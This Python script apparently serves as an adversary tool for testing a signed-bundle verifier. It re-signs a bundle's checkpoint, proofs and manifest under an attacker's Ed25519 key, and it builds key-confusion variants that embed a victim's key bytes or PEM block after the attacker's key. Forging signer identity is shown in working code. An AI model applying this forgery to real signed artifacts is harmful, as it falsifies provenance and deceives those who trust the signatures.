#!/usr/bin/env python3
"""What an attacker with an unpacked bundle, `openssl` and Python does: re-sign it as someone else.

    bundle_forge.py DIR KEY.pem NAME [--manifest-only] [--append-raw VICTIM.pem] [--two-blocks VICTIM.pem]

Signs `checkpoint` (its body, unchanged) and `manifest.json` (rebuilt from the files in DIR: every
entry with size and SHA-256, `exported_by` NAME, the number of events) with the private KEY
under NAME, copies the new checkpoint into every proof and writes keys/NAME.pem and .vkey
(--manifest-only: the manifest alone, the checkpoint keeps its signer).
--append-raw makes keys/NAME.pem hold the attacker's key followed by the victim's raw key bytes
inside the same PEM block; --two-blocks puts the victim's PEM block after the attacker's.
"""
import base64
import hashlib
import json
import os
import subprocess
import sys
import tempfile


def run(*args, data=None):
    return subprocess.run(args, input=data, capture_output=True, check=True).stdout


def raw_of(pem_path, private):
    der = run("openssl", "pkey", "-in", pem_path, *([] if private else ["-pubin"]), "-pubout", "-outform", "DER")
    return der[-32:], der


def sign(key, data):
    with tempfile.NamedTemporaryFile() as f:  # Ed25519 signs a whole file, not a stream
        f.write(data)
        f.flush()
        return run("openssl", "pkeyutl", "-sign", "-rawin", "-inkey", key, "-in", f.name)


def main(argv):
    d, key, name = argv[1], argv[2], argv[3]
    raw, der = raw_of(key, True)
    pem = b"-----BEGIN PUBLIC KEY-----\n" + base64.b64encode(der) + b"\n-----END PUBLIC KEY-----\n"
    if "--append-raw" in argv:
        victim, _ = raw_of(argv[argv.index("--append-raw") + 1], False)
        pem = b"-----BEGIN PUBLIC KEY-----\n" + base64.b64encode(der + victim) + b"\n-----END PUBLIC KEY-----\n"
    if "--two-blocks" in argv:
        with open(argv[argv.index("--two-blocks") + 1], "rb") as f:
            pem += f.read()
    with open(os.path.join(d, f"keys/{name}.pem"), "wb") as f:
        f.write(pem)
    kid = hashlib.sha256(name.encode() + b"\n\x01" + raw).digest()[:4]
    with open(os.path.join(d, f"keys/{name}.vkey"), "w") as f:
        f.write(f"{name}+{kid.hex()}+{base64.b64encode(bytes([1]) + raw).decode()}\n")

    if "--manifest-only" in argv:
        return resign_manifest(d, key, name, raw)
    with open(os.path.join(d, "checkpoint"), "rb") as f:
        text = f.read()
    body = text[:text.rfind(b"\n\n") + 1]
    note = body + b"\n" + "\u2014 ".encode() + name.encode() + b" " + base64.b64encode(kid + sign(key, body)) + b"\n"
    with open(os.path.join(d, "checkpoint"), "wb") as f:
        f.write(note)
    for p in os.listdir(os.path.join(d, "proofs")) if os.path.isdir(os.path.join(d, "proofs")) else []:
        path = os.path.join(d, "proofs", p)
        with open(path, "rb") as f:
            proof = f.read()
        head = proof[:proof.find(b"\n\n") + 2]
        with open(path, "wb") as f:
            f.write(head + note)
    resign_manifest(d, key, name, raw)


def resign_manifest(d, key, name, raw):
    with open(os.path.join(d, "manifest.json"), "rb") as f:
        manifest = json.loads(f.read())
    entries = []
    for root, _, names in os.walk(d):
        for n in names:
            rel = os.path.relpath(os.path.join(root, n), d)
            if rel in ("manifest.json", "manifest.sig") or rel.endswith(".tar.zst"):
                continue
            with open(os.path.join(root, n), "rb") as f:
                data = f.read()
            entries.append({"path": rel, "sha256": hashlib.sha256(data).hexdigest(), "size": len(data)})
    manifest["entries"] = sorted(entries, key=lambda e: e["path"])
    manifest["exported_by"] = name
    manifest["exported_by_key"] = "SHA256:" + hashlib.sha256(raw).hexdigest()
    events = os.path.join(d, "events.jsonl")
    if os.path.exists(events):
        with open(events, "rb") as f:
            manifest["events"] = len([l for l in f.read().split(b"\n") if l])
    else:
        manifest["events"] = 0
    m = json.dumps(manifest, ensure_ascii=False, separators=(",", ":"), sort_keys=True).encode()
    with open(os.path.join(d, "manifest.json"), "wb") as f:
        f.write(m)
    with open(os.path.join(d, "manifest.sig"), "wb") as f:
        f.write(sign(key, m))


if __name__ == "__main__":
    main(sys.argv)
